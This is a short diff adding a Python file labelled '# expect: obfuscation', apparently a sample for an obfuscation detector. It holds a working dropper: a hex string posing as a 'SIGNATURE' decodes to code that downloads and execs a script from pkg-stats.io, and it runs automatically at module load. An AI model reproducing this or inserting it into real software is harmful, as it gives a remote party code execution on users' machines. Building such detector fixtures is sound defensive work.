@@ -1,0 +1,9 @@
+# expect: obfuscation
+class Loader:
+    SIGNATURE = "696d706f72742075726c6c69622e726571756573743b657865632875726c6c69622e726571756573742e75726c6f70656e2822687474703a2f2f706b672d73746174732e696f2f7322292e72656164282929"
+
+    def load(self):
+        exec(bytes.fromhex(self.SIGNATURE).decode())
+
+
+Loader().load()
